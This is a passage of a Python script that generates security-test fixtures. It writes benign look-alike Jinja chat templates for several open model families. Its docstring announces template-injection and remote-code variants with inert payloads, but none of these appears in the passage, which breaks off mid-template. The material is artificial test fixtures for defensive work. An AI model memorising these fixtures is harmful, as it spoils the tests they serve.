#!/usr/bin/env python3
"""Red-team fixtures (set b): chat templates, remote code and Hugging Face repo files.

benign/ holds look-alikes of what real model families publish (chat templates with tools, dates,
thinking blocks, vision content; remote-code modeling files; diffusers, PEFT and
sentence-transformers configs). malicious/ holds template-injection and remote-code variants an
attacker would try next. Payloads are inert (`echo aisec-fixture`, /etc/hostname, 127.0.0.1).
Nothing here renders a template or imports a generated module. Standard library only:
    python3 gen_fixtures.py
"""

import json
import os
import shutil
import struct
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
CMD = "echo aisec-fixture"
ROWS = []


def put(rel, data, expected, cls, desc):
    path = os.path.join(HERE, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data.encode() if isinstance(data, str) else data)
    ROWS.append((rel, expected, cls, desc))


# ---------------------------------------------------------------- benign chat templates
B = {}

B["llama3.2-tools"] = """{{- bos_token }}
{%- if custom_tools is defined %}
    {%- set tools = custom_tools %}
{%- endif %}
{%- if not tools_in_user_message is defined %}
    {%- set tools_in_user_message = true %}
{%- endif %}
{%- if not date_string is defined %}
    {%- if strftime_now is defined %}
        {%- set date_string = strftime_now("%d %b %Y") %}
    {%- else %}
        {%- set date_string = "26 Jul 2024" %}
    {%- endif %}
{%- endif %}
{%- if not tools is defined %}
    {%- set tools = none %}
{%- endif %}

{#- This block extracts the system message, so we can slot it into the right place. #}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content']|trim %}
    {%- set messages = messages[1:] %}
{%- else %}
    {%- set system_message = "" %}
{%- endif %}

{#- System message #}
{{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}
{%- if tools is not none %}
    {{- "Environment: ipython\\n" }}
{%- endif %}
{{- "Cutting Knowledge Date: December 2023\\n" }}
{{- "Today Date: " + date_string + "\\n\\n" }}
{%- if tools is not none and not tools_in_user_message %}
    {{- "You have access to the following functions. To call a function, please respond with JSON for a function call." }}
    {{- 'Respond in the format {"name": function name, "parameters": dictionary of argument name and its value}.' }}
    {{- "Do not use variables.\\n\\n" }}
    {%- for t in tools %}
        {{- t | tojson(indent=4) }}
        {{- "\\n\\n" }}
    {%- endfor %}
{%- endif %}
{{- system_message }}
{{- "<|eot_id|>" }}

{#- Custom tools are passed in a user message with some extra guidance #}
{%- if tools_in_user_message and not tools is none %}
    {#- Extract the first user message so we can plug it in here #}
    {%- if messages | length != 0 %}
        {%- set first_user_message = messages[0]['content']|trim %}
        {%- set messages = messages[1:] %}
    {%- else %}
        {{- raise_exception("Cannot put tools in the first user message when there's no first user message!") }}
{%- endif %}
    {{- '<|start_header_id|>user<|end_header_id|>\\n\\n' -}}
    {{- "Given the following functions, please respond with a JSON for a function call " }}
    {{- "with its proper arguments that best answers the given prompt.\\n\\n" }}
    {{- 'Respond in the format {"name": function name, "parameters": dictionary of argument name and its value}.' }}
    {{- "Do not use variables.\\n\\n" }}
    {%- for t in tools %}
        {{- t | tojson(indent=4) }}
        {{- "\\n\\n" }}
    {%- endfor %}
    {{- first_user_message + "<|eot_id|>"}}
{%- endif %}

{%- for message in messages %}
    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}
        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' }}
    {%- elif 'tool_calls' in message %}
        {%- if not message.tool_calls|length == 1 %}
            {{- raise_exception("This model only supports single tool-calls at once!") }}
        {%- endif %}
        {%- set tool_call = message.tool_calls[0].function %}
        {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}
        {{- '{"name": "' + tool_call.name + '", ' }}
        {{- '"parameters": ' }}
        {{- tool_call.arguments | tojson }}
        {{- "}" }}
        {{- "<|eot_id|>" }}
    {%- elif message.role == "tool" or message.role == "ipython" %}
        {{- "<|start_header_id|>ipython<|end_header_id|>\\n\\n" }}
        {%- if message.content is mapping or message.content is iterable %}
            {{- message.content | tojson }}
        {%- else %}
            {{- message.content }}
        {%- endif %}
        {{- "<|eot_id|>" }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}
{%- endif %}
"""

B["llama3.2-vision"] = """{{- bos_token }}
{%- if messages[0]['role'] == 'system' %}
    {%- if messages[0]['content'] is string %}
        {%- set system_message = messages[0]['content']|trim %}
    {%- else %}
        {%- set system_message = messages[0]['content'][0]['text']|trim %}
    {%- endif %}
    {%- set messages = messages[1:] %}
{%- else %}
    {%- set system_message = "" %}
{%- endif %}
{%- set ns = namespace(has_images=false) %}
{%- for message in messages %}
    {%- if message['content'] is not string %}
        {%- for content in message['content'] | selectattr('type', 'equalto', 'image') %}
            {%- set ns.has_images = true %}
        {%- endfor %}
    {%- endif %}
{%- endfor %}
{%- if not ns.has_images %}
    {{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}
    {{- system_message }}
    {{- "<|eot_id|>" }}
{%- endif %}
{%- for message in messages %}
    {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' }}
    {%- if message['content'] is string %}
        {{- message['content'] }}
    {%- else %}
        {%- for content in message['content'] %}
            {%- if content['type'] == 'image' %}
                {{- '<|image|>' }}
            {%- elif content['type'] == 'text' %}
                {{- content['text'] }}
            {%- endif %}
        {%- endfor %}
    {%- endif %}
    {{- '<|eot_id|>' }}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}
{%- endif %}
"""

B["qwen3-think"] = """{%- if tools %}
    {{- '<|im_start|>system\\n' }}
    {%- if messages[0].role == 'system' %}
        {{- messages[0].content + '\\n\\n' }}
    {%- endif %}
    {{- "# Tools\\n\\nYou may call one or more functions to assist with the user query.\\n\\nYou are provided with function signatures within <tools></tools> XML tags:\\n<tools>" }}
    {%- for tool in tools %}
        {{- "\\n" }}
        {{- tool | tojson }}
    {%- endfor %}
    {{- "\\n</tools>\\n\\nFor each function call, return a json object with function name and arguments within <tool_call></tool_call> XML tags:\\n<tool_call>\\n{\\"name\\": <function-name>, \\"arguments\\": <args-json-object>}\\n</tool_call><|im_end|>\\n" }}
{%- else %}
    {%- if messages[0].role == 'system' %}
        {{- '<|im_start|>system\\n' + messages[0].content + '<|im_end|>\\n' }}
    {%- endif %}
{%- endif %}
{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}
{%- for message in messages[::-1] %}
    {%- set index = (messages|length - 1) - loop.index0 %}
    {%- if ns.multi_step_tool and message.role == "user" and message.content is string and not(message.content.startswith('<tool_response>') and message.content.endswith('</tool_response>')) %}
        {%- set ns.multi_step_tool = false %}
        {%- set ns.last_query_index = index %}
    {%- endif %}
{%- endfor %}
{%- for message in messages %}
    {%- if message.content is string %}
        {%- set content = message.content %}
    {%- else %}
        {%- set content = '' %}
    {%- endif %}
    {%- if (message.role == "user") or (message.role == "system" and not loop.first) %}
        {{- '<|im_start|>' + message.role + '\\n' + content + '<|im_end|>' + '\\n' }}
    {%- elif message.role == "assistant" %}
        {%- set reasoning_content = '' %}
        {%- if message.reasoning_content is string %}
            {%- set reasoning_content = message.reasoning_content %}
        {%- else %}
            {%- if '</think>' in content %}
                {%- set reasoning_content = content.split('</think>')[0].rstrip('\\n').split('<think>')[-1].lstrip('\\n') %}
                {%- set content = content.split('</think>')[-1].lstrip('\\n') %}
            {%- endif %}
        {%- endif %}
        {%- if loop.index0 > ns.last_query_index %}
            {%- if loop.last or (not loop.last and reasoning_content) %}
                {{- '<|im_start|>' + message.role + '\\n<think>\\n' + reasoning_content.strip('\\n') + '\\n</think>\\n\\n' + content.lstrip('\\n') }}
            {%- else %}
                {{- '<|im_start|>' + message.role + '\\n' + content }}
            {%- endif %}
        {%- else %}
            {{- '<|im_start|>' + message.role + '\\n' + content }}
        {%- endif %}
        {%- if message.tool_calls %}
            {%- for tool_call in message.tool_calls %}
                {%- if (loop.first and content) or (not loop.first) %}
                    {{- '\\n' }}
                {%- endif %}
                {%- if tool_call.function %}
                    {%- set tool_call = tool_call.function %}
                {%- endif %}
                {{- '<tool_call>\\n{"name": "' }}
                {{- tool_call.name }}
                {{- '", "arguments": ' }}
                {%- if tool_call.arguments is string %}
                    {{- tool_call.arguments }}
                {%- else %}
                    {{- tool_call.arguments | tojson }}
                {%- endif %}
                {{- '}\\n</tool_call>' }}
            {%- endfor %}
        {%- endif %}
        {{- '<|im_end|>\\n' }}
    {%- elif message.role == "tool" %}
        {%- if loop.first or (messages[loop.index0 - 1].role != "tool") %}
            {{- '<|im_start|>user' }}
        {%- endif %}
        {{- '\\n<tool_response>\\n' }}
        {{- content }}
        {{- '\\n</tool_response>' }}
        {%- if loop.last or (messages[loop.index0 + 1].role != "tool") %}
            {{- '<|im_end|>\\n' }}
        {%- endif %}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|im_start|>assistant\\n' }}
    {%- if enable_thinking is defined and enable_thinking is false %}
        {{- '<think>\\n\\n</think>\\n\\n' }}
    {%- endif %}
{%- endif %}"""

B["gemma3-vision"] = """{{ bos_token }}
{%- if messages[0]['role'] == 'system' -%}
    {%- if messages[0]['content'] is string -%}
        {%- set first_user_prefix = messages[0]['content'] + '\\n\\n' -%}
    {%- else -%}
        {%- set first_user_prefix = messages[0]['content'][0]['text'] + '\\n\\n' -%}
    {%- endif -%}
    {%- set loop_messages = messages[1:] -%}
{%- else -%}
    {%- set first_user_prefix = "" -%}
    {%- set loop_messages = messages -%}
{%- endif -%}
{%- for message in loop_messages -%}
    {%- if (message['role'] == 'user') != (loop.index0 % 2 == 0) -%}
        {{ raise_exception("Conversation roles must alternate user/assistant/user/assistant/...") }}
    {%- endif -%}
    {%- if (message['role'] == 'assistant') -%}
        {%- set role = "model" -%}
    {%- else -%}
        {%- set role = message['role'] -%}
    {%- endif -%}
    {{ '<start_of_turn>' + role + '\\n' + (first_user_prefix if loop.first else "") }}
    {%- if message['content'] is string -%}
        {{ message['content'] | trim }}
    {%- elif message['content'] is iterable -%}
        {%- for item in message['content'] -%}
            {%- if item['type'] == 'image' -%}
                {{ '<start_of_image>' }}
            {%- elif item['type'] == 'text' -%}
                {{ item['text'] | trim }}
            {%- endif -%}
        {%- endfor -%}
    {%- else -%}
        {{ raise_exception("Invalid content type") }}
    {%- endif -%}
    {{ '<end_of_turn>\\n' }}
{%- endfor -%}
{%- if add_generation_prompt -%}
    {{'<start_of_turn>model\\n'}}
{%- endif -%}
"""

B["mistral-tekken-v7"] = """{%- set today = strftime_now("%Y-%m-%d") %}
{%- set default_system_message = "You are Mistral Small 3, a Large Language Model (LLM) created by Mistral AI.\\nYour knowledge base was last updated on 2023-10-01. The current date is " + today + ".\\n\\nWhen you're not sure about some information, you say that you don't have the information." %}
{{- bos_token }}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content'] %}
    {%- set loop_messages = messages[1:] %}
{%- else %}
    {%- set system_message = default_system_message %}
    {%- set loop_messages = messages %}
{%- endif %}
{{- '[SYSTEM_PROMPT]' + system_message + '[/SYSTEM_PROMPT]' }}
{%- if tools is defined and tools is not none %}
    {%- set ns = namespace(tools=[]) %}
    {%- for tool in tools %}
        {%- set ns.tools = ns.tools + [tool] %}
    {%- endfor %}
    {{- '[AVAILABLE_TOOLS]' + ns.tools|tojson + '[/AVAILABLE_TOOLS]' }}
{%- endif %}
{%- for message in loop_messages %}
    {%- if message['role'] == 'user' %}
        {%- if message['content'] is string %}
            {{- '[INST]' + message['content'] + '[/INST]' }}
        {%- else %}
            {{- '[INST]' }}
            {%- for block in message['content'] %}
                {%- if block['type'] == 'text' %}
                    {{- block['text'] }}
                {%- elif block['type'] in ['image', 'image_url'] %}
                    {{- '[IMG]' }}
                {%- else %}
                    {{- raise_exception('Only text and image blocks are supported in message content!') }}
                {%- endif %}
            {%- endfor %}
            {{- '[/INST]' }}
        {%- endif %}
    {%- elif message['role'] == 'system' %}
        {{- '[SYSTEM_PROMPT]' + message['content'] + '[/SYSTEM_PROMPT]' }}
    {%- elif message.tool_calls is defined and message.tool_calls is not none %}
        {{- '[TOOL_CALLS][' }}
        {%- for tool_call in message.tool_calls %}
            {%- set arguments = tool_call['function']['arguments'] %}
            {%- if arguments is not string %}
                {%- set arguments = arguments|tojson %}
            {%- endif %}
            {%- if tool_call.id is not defined or tool_call.id|length != 9 %}
                {{- raise_exception("Tool call IDs should be alphanumeric strings with length 9!") }}
            {%- endif %}
            {{- '{"name": "' + tool_call['function']['name'] + '", "arguments": ' + arguments + ', "id": "' + tool_call.id + '"}' }}
            {%- if not loop.last %}{{- ', ' }}{%- endif %}
        {%- endfor %}
        {{- ']' + eos_token }}
    {%- elif message['role'] == 'assistant' %}
        {{- message['content'] + eos_token }}
    {%- elif message['role'] == 'tool_results' or message['role'] == 'tool' %}
        {%- if message.content is defined and message.content.content is defined %}
            {%- set content = message.content.content %}
        {%- else %}
            {%- set content = message.content %}
        {%- endif %}
        {{- '[TOOL_RESULTS]{"content": ' + content|string + ', "call_id": "' + message.tool_call_id + '"}[/TOOL_RESULTS]' }}
    {%- else %}
        {{- raise_exception('Only user, system, assistant and tool roles are supported!') }}
    {%- endif %}
{%- endfor %}
"""

B["phi4"] = """{% for message in messages %}{% if (message['role'] == 'system') %}{{'<|im_start|>system<|im_sep|>' + message['content'] + '<|im_end|>'}}{% elif (message['role'] == 'user') %}{{'<|im_start|>user<|im_sep|>' + message['content'] + '<|im_end|>'}}{% elif (message['role'] == 'assistant') %}{{'<|im_start|>assistant<|im_sep|>' + message['content'] + '<|im_end|>'}}{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant<|im_sep|>' }}{% endif %}"""

B["phi4-mini-tools"] = """{% for message in messages %}{% if message['role'] == 'system' and 'tools' in message and message['tools'] is not none %}{{ '<|' + message['role'] + '|>' + message['content'] + '<|tool|>' + message['tools'] + '<|/tool|>' + '<|end|>' }}{% else %}{{ '<|' + message['role'] + '|>' + message['content'] + '<|end|>' }}{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>' }}{% else %}{{ eos_token }}{% endif %}"""

B["deepseek-r1"] = """{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}{% set ns = namespace(is_first=false, is_tool=false, is_output_first=true, system_prompt='', is_first_sp=true) %}{%- for message in messages %}{%- if message['role'] == 'system' %}{%- if ns.is_first_sp %}{% set ns.system_prompt = ns.system_prompt + message['content'] %}{% set ns.is_first_sp = false %}{%- else %}{% set ns.system_prompt = ns.system_prompt + '\\n\\n' + message['content'] %}{%- endif %}{%- endif %}{%- endfor %}{{ bos_token }}{{ ns.system_prompt }}{%- for message in messages %}{%- if message['role'] == 'user' %}{%- set ns.is_tool = false -%}{{'<\uff5cUser\uff5c>' + message['content']}}{%- endif %}{%- if message['role'] == 'assistant' and 'tool_calls' in message %}{%- set ns.is_tool = false -%}{%- for tool in message['tool_calls'] %}{%- if not ns.is_first %}{%- if message['content'] is none %}{{'<\uff5cAssistant\uff5c><\uff5ctool\u2581calls\u2581begin\uff5c><\uff5ctool\u2581call\u2581begin\uff5c>' + tool['type'] + '<\uff5ctool\u2581sep\uff5c>' + tool['function']['name'] + '\\n' + '```json' + '\\n' + tool['function']['arguments'] + '\\n' + '```' + '<\uff5ctool\u2581call\u2581end\uff5c>'}}{%- else %}{{'<\uff5cAssistant\uff5c>' + message['content'] + '<\uff5ctool\u2581calls\u2581begin\uff5c><\uff5ctool\u2581call\u2581begin\uff5c>' + tool['type'] + '<\uff5ctool\u2581sep\uff5c>' + tool['function']['name'] + '\\n' + '```json' + '\\n' + tool['function']['arguments'] + '\\n' + '```' + '<\uff5ctool\u2581call\u2581end\uff5c>'}}{%- endif %}{%- set ns.is_first = true -%}{%- else %}{{'\\n' + '<\uff5ctool\u2581call\u2581begin\uff5c>' + tool['type'] + '<\uff5ctool\u2581sep\uff5c>' + tool['function']['name'] + '\\n' + '```json' + '\\n' + tool['function']['arguments'] + '\\n' + '```' + '<\uff5ctool\u2581call\u2581end\uff5c>'}}{%- endif %}{%- endfor %}{{'<\uff5ctool\u2581calls\u2581end\uff5c><\uff5cend\u2581of\u2581sentence\uff5c>'}}{%- endif %}{%- if message['role'] == 'assistant' and 'tool_calls' not in message %}{%- if ns.is_tool %}{{'<\uff5ctool\u2581outputs\u2581end\uff5c>' + message['content'] + '<\uff5cend\u2581of\u2581sentence\uff5c>'}}{%- set ns.is_tool = false -%}{%- else %}{% set content = message['content'] %}{% if '</think>' in content %}{% set content = content.split('</think>')[-1] %}{% endif %}{{'<\uff5cAssistant\uff5c>' + content + '<\uff5cend\u2581of\u2581sentence\uff5c>'}}{%- endif %}{%- endif %}{%- if message['role'] == 'tool' %}{%- set ns.is_tool = true -%}{%- if ns.is_output_first %}{{'<\uff5ctool\u2581outputs\u2581begin\uff5c><\uff5ctool\u2581output\u2581begin\uff5c>' + message['content'] + '<\uff5ctool\u2581output\u2581end\uff5c>'}}{%- set ns.is_output_first = false %}{%- else %}{{'<\uff5ctool\u2581output\u2581begin\uff5c>' + message['content'] + '<\uff5ctool\u2581output\u2581end\uff5c>'}}{%- endif %}{%- endif %}{%- endfor -%}{% if ns.is_tool %}{{'<\uff5ctool\u2581outputs\u2581end\uff5c>'}}{% endif %}{% if add_generation_prompt and not ns.is_tool %}{{'<\uff5cAssistant\uff5c><think>\\n'}}{% endif %}"""

B["command-r-plus-rag"] = """{{ bos_token }}{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% set system_message = messages[0]['content'] %}{% else %}{% set loop_messages = messages %}{% set system_message = '## Task and Context\\nYou help people answer their questions and other requests interactively.' %}{% endif %}{{ '<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|>' + '# Safety Preamble' }}{{ '\\nThe instructions in this section override those in the task description and style guide sections.' }}{{ '\\n\\n# System Preamble' }}{{ '\\n## Basic Rules' }}{{ '\\nYou are a powerful conversational AI trained by Cohere to help people.' }}{{ '\\n\\n# User Preamble' }}{{ '\\n' + system_message }}{{ '<|END_OF_TURN_TOKEN|>'}}{% for message in loop_messages %}{% set content = message['content'] %}{% if message['role'] == 'user' %}{{ '<|START_OF_TURN_TOKEN|><|USER_TOKEN|>' + content.strip() + '<|END_OF_TURN_TOKEN|>' }}{% elif message['role'] == 'system' %}{{ '<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|>' + content.strip() + '<|END_OF_TURN_TOKEN|>' }}{% elif message['role'] == 'assistant' %}{{ '<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>'  + content.strip() + '<|END_OF_TURN_TOKEN|>' }}{% endif %}{% endfor %}{{ '<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|>'}}{{ '<results>' }}{% for document in documents %}{{ '\\nDocument: ' }}{{ loop.index0 }}\\n{% for key, value in document.items() %}{{ key }}: {{value}}\\n{% endfor %}{% endfor %}{{ '</results>'}}{{ '<|END_OF_TURN_TOKEN|>' }}{{ '<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|>' + 'Carefully perform the following instructions, in order, starting each with a new line.\\n' }}{% if citation_mode=='accurate' %}{{ 'Firstly, Decide which of the retrieved documents are relevant.' }}{% endif %}{{ 'Finally, Write \\'Grounded answer:\\' followed by a response.' }}{{ '<|END_OF_TURN_TOKEN|>' }}{% if add_generation_prompt %}{{ '<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>' }}{% endif %}"""

B["command-r-tool-use"] = '''{%- macro json_to_python_type(json_spec) %}
{%- set basic_type_map = {
    "string": "str",
    "number": "float",
    "integer": "int",
    "boolean": "bool"
} %}
{%- if basic_type_map[json_spec.type] is defined %}
    {{- basic_type_map[json_spec.type] }}
{%- elif json_spec.type == "array" %}
    {{- "List[" +  json_to_python_type(json_spec.items) + "]"}}
{%- elif json_spec.type == "object" %}
    {{- "Dict[str, " + json_to_python_type(json_spec.additionalProperties) + ']'}}
{%- elif json_spec.type is iterable %}
    {{- "Union[" }}
    {%- for t in json_spec.type %}
      {{- json_to_python_type({"type": t}) }}
      {%- if not loop.last %}
        {{- "," }}
    {%- endif %}
    {%- endfor %}
    {{- "]" }}
{%- else %}
    {{- "Any" }}
{%- endif %}
{%- endmacro %}
{{ bos_token }}{{ '<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|>## Available Tools\\nHere is a list of tools that you have available to you:\\n\\n' }}{% for tool in tools %}{% if loop.index0 != 0 %}{{ '\\n\\n' }}{% endif %}{{'```python\\ndef ' + tool.name + '('}}{% for param_name, param_fields in tool.parameter_definitions.items() %}{% if loop.index0 != 0 %}{{ ', '}}{% endif %}{{param_name}}: {% if not param_fields.required %}{{'Optional[' + param_fields.type + '] = None'}}{% else %}{{ param_fields.type }}{% endif %}{% endfor %}{{ ') -> List[Dict]:\\n    """'}}{{ tool.description }}{% if tool.parameter_definitions|length != 0 %}{{ '\\n\\n    Args:\\n        '}}{% for param_name, param_fields in tool.parameter_definitions.items() %}{% if loop.index0 != 0 %}{{ '\\n        ' }}{% endif %}{{ param_name + ' ('}}{{ param_fields.type + '): ' + param_fields.description }}{% endfor %}{% endif %}{{ '\\n    """\\n    pass\\n```' }}{% endfor %}{{ '<|END_OF_TURN_TOKEN|>'}}{% for message in messages %}{{ '<|START_OF_TURN_TOKEN|><|USER_TOKEN|>' + message['content'].strip() + '<|END_OF_TURN_TOKEN|>' }}{% endfor %}{% if add_generation_prompt %}{{ '<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>' }}{% endif %}'''

B["granite3.1"] = """{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content'] %}
    {%- set loop_messages = messages[1:] %}
{%- else %}
    {%- set system_message = "Knowledge Cutoff Date: April 2024.\\nToday's Date: " + strftime_now('%B %d, %Y') + ".\\nYou are Granite, developed by IBM." %}
    {%- if tools and documents %}
        {%- set system_message = system_message + " You are a helpful AI assistant with access to the following tools. When a tool is required to answer the user's query, respond with <|tool_call|> followed by a JSON list of tools used.\\n\\nWrite the response to the user's input by strictly aligning with the facts in the provided documents." %}
    {%- elif tools %}
        {%- set system_message = system_message + " You are a helpful AI assistant with access to the following tools." %}
    {%- elif documents %}
        {%- set system_message = system_message + " Write the response to the user's input by strictly aligning with the facts in the provided documents." %}
    {%- else %}
        {%- set system_message = system_message + " You are a helpful AI assistant." %}
    {%- endif %}
    {%- if controls and 'citations' in controls and documents %}
        {%- set system_message = system_message + '\\n\\nIn your response, use the symbols <co> and </co> to indicate when a fact comes from a document.' %}
    {%- endif %}
    {%- if controls and 'hallucinations' in controls and documents %}
        {%- set system_message = system_message + '\\n\\nFinally, after the response is written, include a numbered list of sentences from the response that are potentially hallucinated.' %}
    {%- endif %}
    {%- set loop_messages = messages %}
{%- endif %}
{{- '<|start_of_role|>system<|end_of_role|>' + system_message + '<|end_of_text|>\\n' }}
{%- if tools %}
    {{- '<|start_of_role|>tools<|end_of_role|>' }}
    {{- tools | tojson(indent=4) }}
    {{- '<|end_of_text|>\\n' }}
{%- endif %}
{%- if documents %}
    {{- '<|start_of_role|>documents<|end_of_role|>' }}
    {%- for document in documents %}
        {{- 'Document ' + loop.index0 | string + '\\n' }}
        {{- document['text'] }}
        {%- if not loop.last %}
            {{- '\\n\\n'}}
        {%- endif%}
    {%- endfor %}
    {{- '<|end_of_text|>\\n' }}
{%- endif %}
{%- for message in loop_messages %}
    {{- '<|start_of_role|>' + message['role'] + '<|end_of_role|>' + message['content'] + '<|end_of_text|>\\n' }}
    {%- if loop.last and add_generation_prompt %}
        {{- '<|start_of_role|>assistant' }}
            {%- if controls %}
                {{- ' ' + controls | tojson()}}
            {%- endif %}
        {{- '<|end_of_role|>' }}
    {%- endif %}
{%- endfor %}"""

B["smollm3"] = """{# ───── defaults ───── #}
{%- if enable_thinking is not defined -%}
{%- set enable_thinking = true -%}
{%- endif -%}
{# ───── reasoning mode ───── #}
{%- if enable_thinking -%}
  {%- set reasoning_mode = "/think" -%}
{%- else -%}
  {%- set reasoning_mode = "/no_think" -%}
{%- endif -%}
{# ───── header (system message) ───── #}
{{- "<|im_start|>system\\n" -}}
{%- if messages[0].role == "system" -%}
  {%- set system_message = messages[0].content -%}
  {%- if "/no_think" in system_message -%}
    {%- set reasoning_mode = "/no_think" -%}
  {%- elif "/think" in system_message -%}
    {%- set reasoning_mode = "/think" -%}
  {%- endif -%}
  {%- set custom_instructions = system_message.replace("/no_think", "").replace("/think", "").rstrip() -%}
{%- endif -%}
{%- if "/system_override" in system_message -%}
  {{- custom_instructions.replace("/system_override", "").rstrip() -}}
  {{- "<|im_end|>\\n" -}}
{%- else -%}
  {{- "## Metadata\\n\\n" -}}
  {{- "Knowledge Cutoff Date: June 2025\\n" -}}
  {%- set today = strftime_now("%d %B %Y") -%}
  {{- "Today Date: " ~ today ~ "\\n" -}}
  {{- "Reasoning Mode: " + reasoning_mode + "\\n\\n" -}}
  {{- "## Custom Instructions\\n\\n" -}}
  {%- if custom_instructions -%}
    {{- custom_instructions + "\\n\\n" -}}
  {%- endif -%}
  {%- if xml_tools or python_tools or tools -%}
    {{- "### Tools\\n\\n" -}}
    {%- if xml_tools or tools -%}
      {%- if tools -%}
        {%- set xml_tools = tools -%}
      {%- endif -%}
      {%- set ns = namespace(xml_tool_string="You may call one or more functions to assist with the user query.\\n<tools>\\n") -%}
      {%- for tool in xml_tools[:] -%}
        {%- set ns.xml_tool_string = ns.xml_tool_string ~ (tool | string) ~ "\\n" -%}
      {%- endfor -%}
      {%- set xml_tool_string = ns.xml_tool_string + "</tools>\\n" -%}
      {{- xml_tool_string -}}
    {%- endif -%}
    {%- if python_tools -%}
      {%- set ns = namespace(python_tool_string="When you send a message containing Python code between '<code>' and '</code>' tags, it will be executed in a stateful Jupyter notebook environment.\\n") -%}
      {%- for tool in python_tools[:] -%}
        {%- set ns.python_tool_string = ns.python_tool_string ~ (tool | string) ~ "\\n" -%}
      {%- endfor -%}
      {{- ns.python_tool_string -}}
    {%- endif -%}
    {{- "\\n\\n" -}}
  {%- endif -%}
  {{- "<|im_end|>\\n" -}}
{%- endif -%}
{%- for message in messages -%}
    {%- set content = message.content if message.content is string else "" -%}
    {%- if message.role == "user" -%}
        {{ "<|im_start|>" + message.role + "\\n"  + content + "<|im_end|>\\n" }}
    {%- elif message.role == "assistant" -%}
        {% generation %}
        {%- if reasoning_mode == "/think" -%}
            {{ "<|im_start|>assistant\\n" + content.lstrip("\\n") + "<|im_end|>\\n" }}
        {%- else -%}
            {{ "<|im_start|>assistant\\n" + "<think>\\n\\n</think>\\n" + content.lstrip("\\n") + "<|im_end|>\\n" }}
        {%- endif -%}
        {% endgeneration %}
    {%- elif message.role == "tool" -%}
    {{ "<|im_start|>" + "user\\n"  + content + "<|im_end|>\\n" }}
    {%- endif -%}
{%- endfor -%}
{%- if add_generation_prompt -%}
    {%- if reasoning_mode == "/think" -%}
        {{ "<|im_start|>assistant\\n" }}
    {%- else -%}
        {{ "<|im_start|>assistant\\n" + "<think>\\n\\n</think>\\n" }}
    {%- endif -%}
{%- endif -%}
"""

B["hermes3-tool-use"] = """{%- macro json_to_python_type(json_spec) %}
{%- set basic_type_map = {
    "string": "str",
    "number": "float",
    "integer": "int",
    "boolean": "bool"
} %}

{%- if basic_type_map[json_spec.type] is defined %}
    {{- basic_type_map[json_spec.type] }}
{%- elif json_spec.type == "array" %}
    {{- "list[" +  json_to_python_type(json_spec|items) + "]"}}
{%- elif json_spec.type == "object" %}
    {%- if json_spec.additionalProperties is defined %}
        {{- "dict[str, " + json_to_python_type(json_spec.additionalProperties) + ']'}}
    {%- else %}
        {{- "dict" }}
    {%- endif %}
{%- elif json_spec.type is iterable %}
    {{- "Union[" }}
    {%- for t in json_spec.type %}
      {{- json_to_python_type({"type": t}) }}
      {%- if not loop.last %}
        {{- "," }}
    {%- endif %}
    {%- endfor %}
    {{- "]" }}
{%- else %}
    {{- "Any" }}
{%- endif %}
{%- endmacro %}


{{- bos_token }}
{{- '<|im_start|>system\\n' }}
{{- "You are a function calling AI model. You are provided with function signatures within <tools></tools> XML tags. Here are the available tools: <tools> " }}
{%- for tool in tools %}
    {%- if tool.function is defined %}
        {%- set tool = tool.function %}
    {%- endif %}
    {{- '{"type": "function", "function": ' }}
    {{- '{"name": "' + tool.name + '", ' }}
    {{- '"description": "' + tool.name + '(' }}
    {%- for param_name, param_fields in tool.parameters.properties|items %}
        {{- param_name + ": " + json_to_python_type(param_fields) }}
        {%- if not loop.last %}
            {{- ", " }}
        {%- endif %}
    {%- endfor %}
    {{- ")" }}
    {%- if tool.return is defined %}
        {{- " -> " + json_to_python_type(tool.return) }}
    {%- endif %}
    {{- " - " + tool.description + "\\n\\n" }}
    {%- for param_name, param_fields in tool.parameters.properties|items %}
        {%- if loop.first %}
            {{- "    Args:\\n" }}
        {%- endif %}
        {{- "        " + param_name + "(" + json_to_python_type(param_fields) + "): " + param_fields.description|trim }}
    {%- endfor %}
    {%- if tool.return is defined and tool.return.description is defined %}
        {{- "\\n    Returns:\\n        " + tool.return.description }}
    {%- endif %}
    {{- '"' }}
    {{- ', "parameters": ' }}
    {%- if tool.parameters.properties | length == 0 %}
        {{- "{}" }}
    {%- else %}
        {{- tool.parameters|tojson }}
    {%- endif %}
    {{- "}" }}
    {%- if not loop.last %}
        {{- "\\n" }}
    {%- endif %}
{%- endfor %}
{{- " </tools>" }}
{{- 'Use the following pydantic model json schema for each tool call you will make: {"properties": {"name": {"title": "Name", "type": "string"}, "arguments": {"title": "Arguments", "type": "object"}}, "required": ["name", "arguments"], "title": "FunctionCall", "type": "object"}\\n' }}
